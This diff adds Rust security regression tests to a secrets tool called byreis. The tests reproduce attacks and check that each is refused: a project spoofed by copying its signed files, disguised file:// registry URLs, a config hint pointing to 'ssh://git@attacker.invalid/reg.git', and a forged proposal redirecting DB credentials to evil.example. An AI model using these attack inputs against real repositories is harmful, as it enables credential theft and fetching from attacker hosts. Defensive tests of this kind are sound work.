@@ -449,3 +449,267 @@ fn a_pending_change_is_not_resumed_or_aborted_on_another_branch() {
     assert_eq!(w.git_ok(&w.proj, &["rev-parse", "main"]), pending);
     w.assert_get("prod", "DB", "begun-then-killed");
 }
+
+#[test]
+fn another_projects_signed_state_is_not_served_as_this_ones() {
+    // A writer of `demo` (no key) who can read another project of the same
+    // registry copies that project's current signed files into demo and
+    // renames the project in byreis.yaml (found by an attack pass).
+    let w = World::with_secrets();
+    let other = w.init_other_project();
+    for i in 0..6 {
+        let o = run(
+            &w.alice.home,
+            &other,
+            &["set", "prod", "DB"],
+            Some(&format!("OTHER-prod-db-{i}\n")),
+        );
+        assert_ok(&o, "set in the other project");
+    }
+    let good = w.git_ok(&w.proj, &["rev-parse", "HEAD"]);
+    for f in ["manifest.yaml", "manifest.yaml.sig", "audit.jsonl"] {
+        fs::copy(
+            other.join(".byreis").join(f),
+            w.proj.join(".byreis").join(f),
+        )
+        .unwrap();
+    }
+    for e in fs::read_dir(w.proj.join("secrets")).unwrap() {
+        fs::remove_file(e.unwrap().path()).unwrap();
+    }
+    for e in fs::read_dir(other.join("secrets")).unwrap() {
+        let e = e.unwrap();
+        fs::copy(e.path(), w.proj.join("secrets").join(e.file_name())).unwrap();
+    }
+    replace_in_file(
+        &w.proj.join("byreis.yaml"),
+        "project: demo",
+        "project: other",
+    );
+    commit_all(&w, &w.proj, "chore: refactor");
+    let leaked = ["OTHER-prod-db"];
+
+    // A fresh CI machine: the registry holds two projects and only
+    // byreis.yaml says which one this is.
+    let (home, clone) = fresh_ci(&w, "ci");
+    let id = identity_file(&w.alice);
+    let id = id.to_str().unwrap();
+    let reg = w.reg.to_str().unwrap();
+    let mut env = vec![
+        ("CI", "true"),
+        ("BYREIS_ANCHOR", w.anchor.as_str()),
+        ("BYREIS_REGISTRY", reg),
+        ("BYREIS_IDENTITY_FILE", id),
+    ];
+    assert_reads_refused_in(
+        &home,
+        &clone,
+        &["project-unconfirmed"],
+        &leaked,
+        "CI without BYREIS_PROJECT",
+        &env,
+    );
+    env.push(("BYREIS_PROJECT", "demo"));
+    assert_reads_refused_in(
+        &home,
+        &clone,
+        &["project-mismatch"],
+        &leaked,
+        "CI with BYREIS_PROJECT",
+        &env,
+    );
+    let o = run_env(&home, &clone, &["verify"], None, &env);
+    assert_refused(&o, &["project-mismatch"], "verify");
+
+    // The teammate's stored pin records the project.
+    w.assert_reads_refused(&["project-mismatch"], &leaked, "a stored pin");
+
+    // Reverting leaves nobody locked out (nothing of the other project's
+    // marks was remembered as this one's).
+    w.git_ok(&w.proj, &["reset", "-q", "--hard", &good]);
+    w.assert_get("prod", "DB", PROD_DB);
+    let o = run_env(&home, &clone, &["get", "prod", "DB"], None, &env);
+    assert_refused(
+        &o,
+        &["project-mismatch"],
+        "the CI clone still holds the attack",
+    );
+    w.git_ok(&clone, &["reset", "-q", "--hard", &good]);
+    let o = run_env(&home, &clone, &["get", "prod", "DB"], None, &env);
+    assert_ok(&o, "CI after the revert");
+}
+
+#[test]
+fn file_urls_git_reads_differently_are_refused_before_git_runs() {
+    // `file://localhost/PATH` and `%`-escapes name a copy inside the
+    // project in a form a path comparison does not see (found by an attack
+    // pass); they are refused outright, before any git runs.
+    let w = World::with_secrets();
+    let (home, clone) = fresh_ci(&w, "ci");
+    w.git_ok(
+        &clone,
+        &[
+            "clone",
+            "-q",
+            "--bare",
+            w.reg.to_str().unwrap(),
+            ".ci/reg.git",
+        ],
+    );
+    let inside = format!("{}/.ci/reg.git", clone.display());
+    let escaped = {
+        let (first, rest) = inside[1..].split_at(1);
+        format!("/%{:02x}{rest}", first.as_bytes()[0])
+    };
+    for hint in [
+        format!("file://localhost{inside}"),
+        format!("file://{escaped}"),
+    ] {
+        let config = clone.join("byreis.yaml");
+        let text = fs::read_to_string(&config).unwrap();
+        let line = text
+            .lines()
+            .find(|l| l.starts_with("registry:"))
+            .unwrap()
+            .to_string();
+        fs::write(&config, text.replace(&line, &format!("registry: {hint}"))).unwrap();
+        let env = [("CI", "true"), ("BYREIS_ANCHOR", w.anchor.as_str())];
+        let o = run_env(&home, &clone, &["registry", "pull"], None, &env);
+        assert_refused(&o, &["config-invalid"], &hint);
+        assert!(
+            !home.join("registries").exists(),
+            "{hint}: git cloned it\n{}",
+            dump(&o)
+        );
+    }
+}
+
+#[test]
+fn a_location_only_the_config_names_is_never_fetched() {
+    // A hint naming a host of the attacker's: `registry pull` on a machine
+    // pinned only by BYREIS_ANCHOR would have cloned it (ssh to that host)
+    // before the roster could say it is not the registry.
+    let w = World::with_secrets();
+    let (home, clone) = fresh_ci(&w, "ci");
+    replace_in_file(
+        &clone.join("byreis.yaml"),
+        "registry: ../reg\n",
+        "registry: ssh://git@attacker.invalid/reg.git\n",
+    );
+    let env = [("CI", "true"), ("BYREIS_ANCHOR", w.anchor.as_str())];
+    let o = run_env(&home, &clone, &["registry", "pull"], None, &env);
+    assert_refused(&o, &["registry-unconfirmed"], "registry pull of a hint");
+    assert!(!home.join("registries").exists(), "git ran\n{}", dump(&o));
+    // Named by the user, the same pull runs (here: the real registry).
+    replace_in_file(
+        &clone.join("byreis.yaml"),
+        "registry: ssh://git@attacker.invalid/reg.git\n",
+        "registry: ../reg\n",
+    );
+    let reg = w.reg.to_str().unwrap();
+    let env = [
+        ("CI", "true"),
+        ("BYREIS_ANCHOR", w.anchor.as_str()),
+        ("BYREIS_REGISTRY", reg),
+    ];
+    let o = run_env(&home, &clone, &["registry", "pull"], None, &env);
+    assert_ok(&o, "registry pull of BYREIS_REGISTRY");
+}
+
+#[test]
+fn a_submission_in_another_members_name_is_flagged_as_unproved() {
+    // dave reads staging only; carol reads prod. dave writes a proposal
+    // file by hand naming carol as its author (found by an attack pass:
+    // the blind-member flag was judged by the claimed author's access).
+    let w = World::with_secrets();
+    let dave = keygen(&w.root, "dave");
+    let carol = keygen(&w.root, "carol");
+    let o = w.rotate(&[
+        "--add",
+        &format!("dave={}", dave.recipient),
+        "--env",
+        "staging",
+    ]);
+    assert_ok(&o, "add dave to staging");
+    assert_ok(
+        &w.rotate(&["--add", &format!("carol={}", carol.recipient)]),
+        "add carol",
+    );
+    let counter = w.manifest_counter();
+    w.git_ok(&w.proj, &["switch", "-q", "-c", "forge"]);
+    let dir = w.proj.join(".byreis/proposals/carol");
+    fs::create_dir_all(&dir).unwrap();
+    let plain = format!(
+        "format: byreis-submission/1\nproject: demo\nauthor: carol\nenvironment: prod\nbase-counter: {counter}\nroster-version: 1\nencrypted-to:\n- alice\ncreated: 2026-01-01T00:00:00Z\n---\nDB: \"postgres://app:x@evil.example/app\"\nPGHOST: \"evil.example\"\n"
+    );
+    fs::write(
+        dir.join("001-prod.age"),
+        w.age_encrypt(&plain, &[&w.alice.recipient]),
+    )
+    .unwrap();
+    commit_all(&w, &w.proj, "byreis: proposal by carol");
+    let tip = w.git_ok(&w.proj, &["rev-parse", "HEAD"]);
+    let branch = format!("byreis/submit/carol-{}", &tip[..8]);
+    w.git_ok(&w.proj, &["branch", "-q", &branch]);
+    w.git_ok(&w.proj, &["switch", "-q", "main"]);
+    let o = w.alice_run(&["approve", &branch]);
+    let out = format!("{}{}", stdout(&o), stderr(&o));
+    assert!(
+        out.contains("nothing shows that carol wrote this"),
+        "the claimed author is called a claim\n{}",
+        dump(&o)
+    );
+    for name in ["DB", "PGHOST"] {
+        assert!(
+            out.contains(&format!("prod: FLAGGED {name}: nothing shows")),
+            "{name} flagged\n{}",
+            dump(&o)
+        );
+    }
+
+    // carol's own submission of the same change carries her proof: no
+    // such warning, and no blind flag (she reads prod).
+    let carol_clone = clone_and_trust(&w, &w.proj, &carol);
+    let o = run(
+        &carol.home,
+        &carol_clone,
+        &["set", "prod", "PGHOST"],
+        Some("db.internal\n"),
+    );
+    assert_ok(&o, "carol proposes");
+    assert_ok(
+        &run(&carol.home, &carol_clone, &["submit"], None),
+        "carol submits",
+    );
+    let branches = w.git_ok(
+        &carol_clone,
+        &[
+            "for-each-ref",
+            "--format=%(refname:short)",
+            "refs/heads/byreis/submit/",
+        ],
+    );
+    let theirs = branches
+        .lines()
+        .next()
+        .expect("a submission branch")
+        .to_string();
+    w.git_ok(
+        &w.proj,
+        &[
+            "fetch",
+            "-q",
+            carol_clone.to_str().unwrap(),
+            &format!("{theirs}:{theirs}"),
+        ],
+    );
+    let o = w.alice_run(&["approve", &theirs]);
+    let out = format!("{}{}", stdout(&o), stderr(&o));
+    assert!(
+        !out.contains("nothing shows"),
+        "carol's proof verified\n{}",
+        dump(&o)
+    );
+    assert!(out.contains("prod: added: PGHOST"), "{}", dump(&o));
+    assert!(!out.contains("FLAGGED"), "{}", dump(&o));
+}
